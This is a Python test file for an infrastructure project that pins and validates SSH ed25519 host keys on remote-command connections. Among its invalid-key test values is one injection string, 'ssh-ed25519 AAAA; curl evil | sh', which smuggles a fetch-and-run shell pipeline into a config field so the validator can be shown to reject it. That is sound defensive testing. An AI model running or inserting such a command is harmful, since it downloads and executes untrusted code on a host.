"""SSH host keys: every remote command's connection is pinned to its node's host key (providers/base.py
ssh_connection), read once on first contact or given in bare-metal config."""

from __future__ import annotations

import base64
import shutil
import subprocess
from typing import Any

import pytest

from config.model_base import check_host_key
from providers.base import READ_HOST_KEY
from tests.conftest import stack_run
from tests.test_baremetal import COMMAND, problems, raw
from tools import mockrun
from tests.conftest import run_raw

# A real ed25519 host key's public half (wire form: type string, then 32 bytes).
KEY = "ssh-ed25519 " + base64.b64encode(b"\0\0\0\x0bssh-ed25519\0\0\0\x20" + bytes(range(32))).decode()


def _plain(value: Any) -> Any:
    return value.value if isinstance(value, mockrun.Secret) else value


def _connections(run: mockrun.Run) -> dict[str, dict[str, Any]]:
    return {r.name: _plain(r.inputs["connection"]) for r in run.of_type(COMMAND)}


@pytest.mark.parametrize("stack", ["staging", "production-baremetal"])
def test_every_remote_command_but_the_first_contact_verifies_the_host_key(stack):
    connections = _connections(stack_run(stack))
    unpinned = sorted(name for name, c in connections.items() if not _plain(c.get("hostKey")))
    reads = sorted(name for name in connections if name.startswith("host-key-"))
    assert reads and unpinned == reads
    for name, c in connections.items():
        if name not in reads:
            assert check_host_key(_plain(c["hostKey"])) == _plain(c["hostKey"]), name


def test_the_first_contact_reads_the_ed25519_key_once_per_machine():
    run = stack_run("staging")
    reads = [r for r in run.of_type(COMMAND) if r.name.startswith("host-key-")]
    for read in reads:
        assert read.inputs["create"] == READ_HOST_KEY
        assert "update" not in read.inputs and "delete" not in read.inputs
        # Re-read only when the machine is replaced (its id): never on an ordinary `pulumi up`.
        assert len(read.inputs["triggers"]) == 1
    node = reads[0].name.removeprefix("host-key-")
    pinned = {_plain(c["hostKey"]) for name, c in _connections(run).items()
              if name.endswith(node) and name != reads[0].name}
    # The key read from the node (the mock's /etc/ssh/ssh_host_ed25519_key.pub), comment dropped.
    assert pinned == {mockrun.fake_host_key(reads[0].name).rsplit(" ", 1)[0]}


def test_a_bare_metal_host_key_from_config_is_verified_from_the_first_connection():
    values = raw()
    for host in values["bareMetal"]["hosts"]:
        host["hostKey"] = KEY + " root@example"
    run = run_raw(values, stack="production-baremetal")
    connections = _connections(run)
    assert not [n for n in connections if n.startswith("host-key-")]
    assert {_plain(c["hostKey"]) for c in connections.values()} == {KEY}


@pytest.mark.parametrize("bad", [
    "AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl",  # no type
    "ssh-rsa AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl",  # not ed25519
    "ssh-ed25519 AAAAB3NzaC1yc2EAAAADAQABAAABAQ==",  # type says ed25519, the key inside does not
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJ$",  # not base64
    "ssh-ed25519 AAAA; curl evil | sh",
])
def test_a_bad_bare_metal_host_key_is_a_config_error_naming_the_key(bad):
    values = raw()
    values["bareMetal"]["hosts"][0]["hostKey"] = bad
    found = problems(values)
    assert any("bareMetal.hosts[0].hostKey" in p and "ssh-ed25519" in p for p in found), found


@pytest.mark.skipif(shutil.which("ssh-keygen") is None, reason="needs OpenSSH's ssh-keygen")
def test_the_pinned_form_is_what_openssh_writes_and_reads(tmp_path):
    # pulumi-command parses hostKey with ssh.ParseAuthorizedKey: an authorized_keys line, as ssh-keygen writes.
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "root@node", "-f", str(tmp_path / "k")],
                   check=True)
    written = (tmp_path / "k.pub").read_text()
    pinned = check_host_key(written)
    assert pinned == " ".join(written.split()[:2])
    (tmp_path / "p.pub").write_text(pinned + "\n")
    fingerprint = subprocess.run(["ssh-keygen", "-l", "-f", str(tmp_path / "p.pub")], capture_output=True,
                                 text=True, check=True).stdout
    assert "(ED25519)" in fingerprint


@pytest.mark.parametrize("printed", ["", "cat: /etc/ssh/ssh_host_ed25519_key.pub: No such file or directory",
                                     "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7"])
def test_a_first_contact_that_reads_no_ed25519_key_stops_with_a_message_not_a_traceback(printed):
    # pulumi.RunError: the engine prints its message alone; a plain exception would print the program's traceback.
    import pulumi
    from providers.base import _pinned_key
    with pytest.raises(pulumi.RunError) as e:
        _pinned_key("control-plane-1", printed)
    assert "host key of node control-plane-1" in str(e.value) and "SSH host keys" in str(e.value)
